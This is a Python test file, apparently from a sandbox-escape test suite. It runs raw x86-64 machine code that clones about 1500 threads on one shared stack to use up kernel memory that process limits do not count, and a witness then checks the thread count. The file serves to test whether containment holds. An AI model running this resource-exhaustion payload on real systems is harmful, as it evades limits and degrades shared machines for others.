"""Threads on one shared stack in machine code: they cost the kernel memory that no limit of the process counts."""

from __future__ import annotations

from functools import partial

from tests.escape.arms import machine_code
from tests.escape.needs import x86_64
from tests.escape.witnesses.worker import Status, crowd

WITNESS = partial(Status, field="Threads", bad=crowd)
NEEDS = x86_64


def attack() -> None:
    import ctypes
    import mmap
    import struct

    stack = mmap.mmap(-1, 65536)
    top = ctypes.addressof(ctypes.c_char.from_buffer(stack)) + 65000
    globals()["kept"] = stack
    code = (
        b"\x53\x45\x31\xd2\x48\xc7\xc3"
        + struct.pack("=i", 1500)  # fifteen hundred times:
        + b"\xb8\x38\0\0\0\xbf\0\x0f\x05\0\x48\xbe"
        + struct.pack("=Q", top)
        + b"\x31\xd2\x45\x31\xc0\x0f\x05"  # clone
        b"\x48\x85\xc0\x74\x0b\x78\x05\x48\xff\xcb\x75\xd9\x5b\xc3"  # an error ends it
        b"\x90\x90\xb8\x22\0\0\0\x0f\x05\xeb\xf7"  # each thread pauses
    )
    machine_code(code)
